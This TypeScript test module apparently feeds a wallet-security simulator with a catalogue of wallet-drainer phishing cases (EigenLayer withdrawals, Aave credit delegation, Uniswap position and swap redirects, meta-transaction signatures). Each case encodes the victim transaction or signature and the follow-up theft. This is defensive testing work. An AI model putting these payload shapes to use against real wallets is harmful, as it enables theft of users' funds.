import { type Address, encodeAbiParameters, erc20Abi, type Hex, parseAbi } from 'viem';
import { readArtifact } from '../artifact.ts';
import type { Case } from '../Case.ts';
import { PERMIT2 } from '../createWorld.ts';
import { aave } from '../protocols/aave.ts';
import type { Contract } from '../protocols/contract.ts';
import { dollar, meadow, weth } from '../protocols/tokens.ts';
import { FEE, mintOf, uniswapV2, uniswapV3, universalRouter } from '../protocols/uniswap.ts';
import { type About, attack, calls, signature, type Typed, transaction } from './attack.ts';
import {
  type Deployed,
  ETHER,
  FAR_SECONDS,
  type Heist,
  type Measure,
  NO_LIMIT,
  type RawCall,
  ZERO_ADDRESS,
} from './Heist.ts';
import { eoa, multicall } from './spenders.ts';
import { split } from './typed.ts';

/** G: what the user has inside protocols. */
export const POSITIONS: readonly Case[] = [
  staked(
    'g1-queue-withdrawals',
    'queueWithdrawals((strategies,shares,withdrawer)[]) with another withdrawer',
    'Angel Drainer, EigenLayer, Jan 2024',
    (heist, pool, amount) => ({
      call: heist.encode(pool, 'queueWithdrawals', [
        [{ strategies: [pool.address], shares: [amount], withdrawer: heist.thief }],
      ]),
      theft: () => heist.send(heist.thief, pool, 'completeQueued'),
    }),
  ),
  staked(
    'g1-queue-withdrawal-2023',
    'queueWithdrawal(indexes,strategies,shares,withdrawer,bool) with another withdrawer',
    'Angel Drainer, EigenLayer StrategyManager, 2023-2024',
    (heist, pool, amount) => ({
      call: heist.encode(pool, 'queueWithdrawal', [[0n], [pool.address], [amount], heist.thief, true]),
      theft: () => heist.send(heist.thief, pool, 'completeQueued'),
    }),
  ),
  staked(
    'g1-vault-withdraw',
    'ERC-4626 withdraw(assets, receiver, owner) with another receiver',
    'ERC-4626 vaults; phishing of stakers',
    (heist, pool, amount) => ({
      call: heist.encode(pool, 'withdraw', [amount, heist.thief, heist.user]),
    }),
  ),
  staked(
    'g1-exit-to',
    'exitTo(address), a function nobody knows, pays the thief',
    'staking contracts with a receiver argument',
    (heist, pool) => ({
      call: heist.encode(pool, 'exitTo', [heist.thief]),
    }),
  ),
  staked(
    'g1-request-withdrawals',
    'requestWithdrawals(uint256[],address) for another owner',
    'Lido WithdrawalQueueERC721',
    (heist, pool, amount) => ({
      call: heist.encode(pool, 'requestWithdrawals', [[amount], heist.thief]),
      theft: () => heist.send(heist.thief, pool, 'completeQueued'),
    }),
  ),
  transaction(
    {
      id: 'g2-approve-delegation-eoa',
      family: 'G2',
      shape: 'approveDelegation → a plain account',
      provenance: 'Aave V3 credit delegation',
    },
    async (heist) => {
      const { debt, stake, loan } = await creditLine(heist);
      return {
        call: heist.encode(debt, 'approveDelegation', [heist.thief, NO_LIMIT]),
        stake,
        theft: () => heist.world.sendRaw(heist.thief, loan),
      };
    },
  ),
  transaction(
    {
      id: 'g2-approve-delegation-contract',
      family: 'G2',
      shape: 'approveDelegation → the thief’s contract',
      provenance: 'Aave V3 credit delegation (npm @aave/core-v3)',
    },
    async (heist) => {
      const { debt, stake, loan, spoils } = await creditLine(heist);
      const drainer = await multicall.open(heist);
      return {
        call: heist.encode(debt, 'approveDelegation', [drainer.address, NO_LIMIT]),
        stake,
        theft: async () => drainer.act?.([loan, spoils]),
      };
    },
  ),
  transaction(
    {
      id: 'g2-approve-delegation-drawer',
      family: 'G2',
      shape: 'approveDelegation → a contract whose owner draws loans for whom it likes',
      provenance: 'Aave V3 credit delegation (npm @aave/core-v3)',
    },
    async (heist) => {
      const { debt, stake, pool, asset, amount } = await creditLine(heist);
      const drawer = await heist.thiefs('LoanDrawer');
      return {
        call: heist.encode(debt, 'approveDelegation', [drawer.address, heist.scaled(2n * amount)]),
        stake,
        theft: () => heist.send(heist.thief, drawer, 'draw', [pool, heist.user, asset, heist.scaled(amount)]),
      };
    },
  ),
  transaction(
    {
      id: 'g2-flash-loan-owed',
      family: 'G2',
      shape: 'flashLoan kept as the caller’s debt → a receiver that hands it to a plain account',
      provenance: 'Aave V3 flash loans with an open debt (npm @aave/core-v3)',
    },
    async (heist) => {
      const { stake, asset, amount } = await creditLine(heist);
      const receiver = await heist.thiefs('LoanReceiver');
      const { pool: lender } = await aave(heist.world);
      const loan = [[asset], [heist.scaled(amount)], [2n], heist.user, '0x', 0] as const;
      return { call: heist.encode(lender, 'flashLoan', [receiver.address, ...loan]), stake };
    },
  ),
  creditSignature('g2-signed-eoa', false),
  creditSignature('g2-signed-contract', true),
  transaction(
    {
      id: 'g3-signal-transfer',
      family: 'G3',
      shape: 'signalTransfer(receiver): the whole account',
      provenance: 'GMX RewardRouterV2; phishing of 2023',
    },
    async (heist) => {
      const { pool, stake } = await stakedIn(heist);
      return {
        call: heist.encode(pool, 'signalTransfer', [heist.thief]),
        stake,
        theft: () => heist.send(heist.thief, pool, 'acceptTransfer', [heist.user]),
      };
    },
  ),
  transaction(
    {
      id: 'g3-position-transfer',
      family: 'G3',
      shape: 'safeTransferFrom of a Uniswap V3 position to a plain account',
      provenance: 'Uniswap V3 LP phishing, July 2022 ($8 M)',
    },
    async (heist) => {
      const { positions, id } = await lpPosition(heist);
      const abi = parseAbi(['function safeTransferFrom(address from, address to, uint256 id)']);
      return {
        call: heist.encode({ ...positions, abi }, 'safeTransferFrom', [heist.user, heist.thief, id]),
        stake: heist.balance(positions),
      };
    },
  ),
  transaction(
    {
      id: 'g3-position-operator',
      family: 'G3',
      shape: 'setApprovalForAll of Uniswap V3 positions → a plain account',
      provenance: 'Uniswap V3 LP phishing, July 2022 ($8 M): fake airdrop, then setApprovalForAll',
    },
    async (heist) => {
      const { positions, id } = await lpPosition(heist);
      return {
        call: heist.encode(positions, 'setApprovalForAll', [heist.thief, true]),
        stake: heist.balance(positions),
        theft: () => heist.send(heist.thief, positions, 'transferFrom', [heist.user, heist.thief, id]),
      };
    },
  ),
  transaction(
    {
      id: 'g3-position-multicall',
      family: 'G3',
      shape: 'positions.multicall: decreaseLiquidity and collect to the thief',
      provenance: 'Uniswap V3 NonfungiblePositionManager',
    },
    async (heist) => {
      const { positions, id } = await lpPosition(heist);
      const liquidity = await positionLiquidity(heist, positions, id);
      const steps = [
        heist.encode(positions, 'decreaseLiquidity', [
          { tokenId: id, liquidity, amount0Min: 0n, amount1Min: 0n, deadline: FAR_SECONDS },
        ]),
        heist.encode(positions, 'collect', [
          { tokenId: id, recipient: heist.thief, amount0Max: 2n ** 128n - 1n, amount1Max: 2n ** 128n - 1n },
        ]),
      ];
      return {
        call: heist.encode(positions, 'multicall', [steps.map(({ data }) => data)]),
        stake: () => positionLiquidity(heist, positions, id),
      };
    },
  ),
  ...swaps(),
  ...metaTransactions(),
];

async function stakedIn(heist: Heist): Promise<{ pool: Deployed; stake: Measure; amount: bigint }> {
  const coin = await heist.otherCoin();
  const pool = await heist.honest('Positions', [coin.address]);
  const amount = heist.scaled(30n * ETHER);
  await heist.send(heist.world.deployer, coin, 'mint', [heist.world.deployer, amount]);
  await heist.send(heist.world.deployer, coin, 'approve', [pool.address, NO_LIMIT]);
  await heist.send(heist.world.deployer, pool, 'stakeFor', [heist.user, amount]);
  const stake: Measure = async () =>
    BigInt(String(await heist.world.read(pool.address, pool.abi, 'staked', [heist.user])));
  return { pool, stake, amount };
}

function staked(
  id: string,
  shape: string,
  provenance: string,
  plan: (
    heist: Heist,
    pool: Deployed,
    amount: bigint,
  ) => { call: ReturnType<Heist['encode']>; theft?: () => Promise<unknown> },
): Case {
  return transaction({ id, family: 'G1', shape, provenance }, async (heist) => {
    const { pool, stake, amount } = await stakedIn(heist);
    return { ...plan(heist, pool, amount), stake };
  });
}

interface CreditLine {
  readonly debt: Deployed;
  readonly stake: Measure;
  readonly pool: Address;
  /** What can be borrowed. */
  readonly asset: Address;
  readonly amount: bigint;
  /** Whoever makes this call holds the coins; the user owes them. */
  readonly loan: RawCall;
  /** Passes the coins on to the thief. */
  readonly spoils: RawCall;
}

/** The user has deposits to borrow against. The debt is the user's: it grows by the theft, so what is left of none shrinks. */
async function creditLine(heist: Heist): Promise<CreditLine> {
  const { pool, dollars, meadows } = await aave(heist.world);
  await heist.send(heist.user, dollars.asset, 'approve', [pool.address, NO_LIMIT]);
  await heist.send(heist.user, pool, 'supply', [dollars.asset.address, heist.scaled(9_000_000_000n), heist.user, 0]);
  const debt = meadows.variableDebt;
  const asset = meadows.asset.address;
  const amount = 500n * ETHER;
  const stake: Measure = async () =>
    -BigInt(String(await heist.world.read(debt.address, debt.abi, 'balanceOf', [heist.user])));
  const borrowed = heist.scaled(amount);
  const loan = heist.encode(pool, 'borrow', [asset, borrowed, 2n, 0, heist.user]);
  const spoils = heist.encode(meadows.asset, 'transfer', [heist.thief, borrowed]);
  return { debt, stake, pool: pool.address, asset, amount, loan, spoils };
}

function creditSignature(id: string, toContract: boolean): Case {
  const about = {
    id,
    family: 'G2',
    shape: `DelegationWithSig → ${toContract ? 'the thief’s contract' : 'a plain account'}`,
    provenance: 'Aave V3 delegationWithSig',
  };
  return signature(about, async (heist) => {
    const { debt, stake, loan, spoils } = await creditLine(heist);
    const borrower = await (toContract ? multicall : eoa).open(heist);
    const delegatee = borrower.address;
    const typed: Typed = {
      domain: {
        name: 'Harbor Lend Debt MDW',
        version: '1',
        chainId: heist.world.chainId,
        verifyingContract: debt.address,
      },
      types: {
        DelegationWithSig: [
          { name: 'delegatee', type: 'address' },
          { name: 'value', type: 'uint256' },
          { name: 'nonce', type: 'uint256' },
          { name: 'deadline', type: 'uint256' },
        ],
      },
      primaryType: 'DelegationWithSig',
      message: { delegatee, value: NO_LIMIT, nonce: 0n, deadline: FAR_SECONDS },
    };
    return {
      typed,
      stake,
      async theft(signed: Hex) {
        const args = [heist.user, delegatee, NO_LIMIT, FAR_SECONDS, ...split(signed)];
        await heist.send(heist.thief, debt, 'delegationWithSig', args);
        await borrower.act?.([loan, spoils]);
      },
    };
  });
}

async function positionLiquidity(heist: Heist, positions: Contract, id: bigint): Promise<bigint> {
  const position = await heist.world.read(positions.address, positions.abi, 'positions', [id]);
  return Array.isArray(position) ? BigInt(String(position[7])) : 0n;
}

async function lpPosition(heist: Heist): Promise<{ positions: Contract; id: bigint }> {
  const { world, user } = heist;
  const { factory } = await uniswapV3(world);
  const [mdw, hbd, wrapped] = [await meadow(world), await dollar(world), await weth(world)];
  const path = '@uniswap/v3-periphery/artifacts/contracts/NonfungiblePositionManager.sol';
  const artifact = readArtifact(`${path}/NonfungiblePositionManager.json`);
  const args = [factory.address, wrapped.address, ZERO_ADDRESS];
  const positions = { address: await world.deployAt(POSITION_MANAGER, artifact, args), abi: artifact.abi };
  for (const token of [mdw, hbd]) await heist.send(world.deployer, token, 'approve', [positions.address, NO_LIMIT]);
  const params = mintOf({ token: mdw, amount: 50n * ETHER }, { token: hbd, amount: 50_000_000n }, user);
  await heist.send(world.deployer, positions, 'mint', [params]);
  const held = BigInt(String(await world.read(positions.address, positions.abi, 'balanceOf', [user])));
  const id = await world.read(positions.address, positions.abi, 'tokenOfOwnerByIndex', [user, held - 1n]);
  return { positions, id: BigInt(String(id)) };
}

/** Uniswap V3's own, at its own address: whoever knows it as what holds positions may. */
const POSITION_MANAGER: Address = '0xC36442b4a4522E871399CD717aBDD847Ab11FE88';

/** G4: real routers, and the output or its floor is the thief's. */
function swaps(): Case[] {
  const g4 = (id: string, shape: string): About => ({
    id,
    family: 'G4',
    shape,
    provenance: 'Uniswap packages; swaps of phishing front ends',
    origin: 'https://swap.brightferry.com',
  });
  return [
    transaction(g4('g4-v2-recipient', 'Uniswap V2 swapExactTokensForTokens to the thief'), async (heist) => {
      const { router, mdw, hbd, held } = await withMeadow(heist);
      const args = [held, 1n, [mdw.address, hbd.address], heist.thief, FAR_SECONDS];
      return { call: heist.encode(router, 'swapExactTokensForTokens', args), stake: heist.balance(mdw) };
    }),
    transaction(g4('g4-v2-ether', 'Uniswap V2 swapExactETHForTokens to the thief'), async (heist) => {
      const { router } = await uniswapV2(heist.world);
      const [wrapped, hbd] = [await weth(heist.world), await dollar(heist.world)];
      const args = [1n, [wrapped.address, hbd.address], heist.thief, FAR_SECONDS];
      return {
        call: heist.encode(router, 'swapExactETHForTokens', args, heist.scaled(2n * ETHER)),
        stake: heist.ether(),
      };
    }),
    transaction(g4('g4-v3-recipient', 'Uniswap V3 exactInputSingle to the thief'), async (heist) => {
      const { router } = await uniswapV3(heist.world);
      const { mdw, hbd, held } = await withMeadow(heist, router.address);
      const params = {
        tokenIn: mdw.address,
        tokenOut: hbd.address,
        fee: FEE,
        recipient: heist.thief,
        deadline: FAR_SECONDS,
        amountIn: held,
        amountOutMinimum: 1n,
        sqrtPriceLimitX96: 0n,
      };
      return { call: heist.encode(router, 'exactInputSingle', [params]), stake: heist.balance(mdw) };
    }),
    transaction(g4('g4-universal-recipient', 'Universal Router execute: V2 swap to the thief'), async (heist) => {
      const router = await universalRouter(heist.world);
      const { mdw, hbd, held } = await withMeadow(heist, PERMIT2);
      const permit2 = {
        address: PERMIT2,
        abi: parseAbi(['function approve(address token, address spender, uint160 amount, uint48 expiration)']),
      };
      await heist.send(heist.user, permit2, 'approve', [mdw.address, router.address, 2n ** 160n - 1n, 2n ** 48n - 1n]);
      const input = encodeAbiParameters(
        [{ type: 'address' }, { type: 'uint256' }, { type: 'uint256' }, { type: 'address[]' }, { type: 'bool' }],
        [heist.thief, held, 1n, [mdw.address, hbd.address], true],
      );
      return {
        call: heist.encode({ ...router, abi: EXECUTE }, 'execute', ['0x08', [input], FAR_SECONDS]),
        stake: heist.balance(mdw),
      };
    }),
    calls(
      g4('g4-calls-recipient', 'wallet_sendCalls: approve, then a V2 swap whose output the thief gets'),
      async (heist) => {
        const { router, mdw, hbd, held } = await withMeadow(heist, null);
        const args = [held, 1n, [mdw.address, hbd.address], heist.thief, FAR_SECONDS];
        return {
          calls: [
            heist.encode(mdw, 'approve', [router.address, held]),
            heist.encode(router, 'swapExactTokensForTokens', args),
          ],
          stake: heist.balance(mdw),
        };
      },
    ),
    transaction(g4('g4-liquidity-recipient', 'Uniswap V2 removeLiquidityETH paying the thief'), async (heist) => {
      const { router, factory } = await uniswapV2(heist.world);
      const { world, user } = heist;
      const [wrapped, hbd] = [await weth(world), await dollar(world)];
      const pair: Address = `0x${String(await world.read(factory.address, factory.abi, 'getPair', [wrapped.address, hbd.address])).slice(2)}`;
      const lp = { address: pair, abi: erc20Abi };
      const held = (await heist.balance(lp, world.deployer)()) / 50n;
      await heist.send(world.deployer, lp, 'transfer', [user, held]);
      await heist.send(user, lp, 'approve', [router.address, held]);
      const args = [hbd.address, held, 1n, 1n, heist.thief, FAR_SECONDS];
      return { call: heist.encode(router, 'removeLiquidityETH', args), stake: heist.balance(lp) };
    }),
  ];
}

const EXECUTE = parseAbi(['function execute(bytes commands, bytes[] inputs, uint256 deadline) payable']);

async function withMeadow(heist: Heist, spender?: Address | null) {
  const { world, user } = heist;
  const { router } = await uniswapV2(world);
  const [mdw, hbd] = [await meadow(world), await dollar(world)];
  const held = heist.scaled(400n * ETHER);
  await heist.send(world.deployer, mdw, 'transfer', [user, held]);
  if (spender !== null) await heist.send(user, mdw, 'approve', [spender ?? router.address, NO_LIMIT]);
  return { router, mdw, hbd, held };
}

/** G5: the signature is a call that somebody else will make for the user. */
function metaTransactions(): Case[] {
  const meta = (id: string, what: string, encode: (heist: Heist, coin: Deployed) => Promise<Hex>): Case =>
    signature(
      {
        id,
        family: 'G5',
        shape: `MetaTransaction whose inner call is ${what}`,
        provenance: 'Biconomy EIP712MetaTransaction',
      },
      async (heist) => {
        const coin = await heist.coinOf('MetaCoin');
        const inner = await encode(heist, coin);
        const stake = heist.balance(coin);
        return {
          typed: {
            domain: { name: 'Meta', version: '1', chainId: heist.world.chainId, verifyingContract: coin.address },
            types: {
              MetaTransaction: [
                { name: 'nonce', type: 'uint256' },
                { name: 'from', type: 'address' },
                { name: 'functionSignature', type: 'bytes' },
              ],
            },
            primaryType: 'MetaTransaction',
            message: { nonce: 0n, from: heist.user, functionSignature: inner },
          },
          stake,
          async theft(signed: Hex) {
            const [v, r, s] = split(signed);
            await heist.send(heist.thief, coin, 'executeMetaTransaction', [heist.user, inner, r, s, v]);
            if (!inner.startsWith('0xa9059cbb')) {
              await heist.send(heist.thief, coin, 'transferFrom', [heist.user, heist.thief, await stake()]);
            }
          },
        };
      },
    );
  return [
    meta(
      'g5-approve',
      'approve to the thief',
      async (heist, coin) => heist.encode(coin, 'approve', [heist.thief, NO_LIMIT]).data,
    ),
    meta(
      'g5-transfer',
      'transfer of all to the thief',
      async (heist, coin) => heist.encode(coin, 'transfer', [heist.thief, await heist.balance(coin)()]).data,
    ),
    attack(
      {
        id: 'g5-forward-request',
        family: 'G5',
        shape: 'ERC-2771 ForwardRequest whose inner call is approve',
        provenance: 'OpenZeppelin ERC2771Forwarder',
      },
      async (heist) => {
        const coin = await heist.coin();
        const forwarder = await heist.honest('Forwarder2771');
        const { data } = heist.encode(coin, 'approve', [heist.thief, NO_LIMIT]);
        const typed = {
          domain: { name: 'Relay', version: '1', chainId: heist.world.chainId, verifyingContract: forwarder.address },
          types: {
            ForwardRequest: 'from address,to address,value uint256,gas uint256,nonce uint256,deadline uint48,data bytes'
              .split(',')
              .map((field) => ({ name: field.split(' ')[0] ?? '', type: field.split(' ')[1] ?? '' })),
          },
          primaryType: 'ForwardRequest',
          message: {
            from: heist.user,
            to: coin.address,
            value: '0',
            gas: '200000',
            nonce: '0',
            deadline: FAR_SECONDS.toString(),
            data,
          },
        };
        const EIP712Domain = ['name string', 'version string', 'chainId uint256', 'verifyingContract address'].map(
          (field) => ({
            name: field.split(' ')[0],
            type: field.split(' ')[1],
          }),
        );
        const sent = { ...typed, types: { EIP712Domain, ...typed.types } };
        return { method: 'eth_signTypedData_v4', params: [heist.user, JSON.stringify(sent)], account: heist.user };
      },
    ),
  ];
}
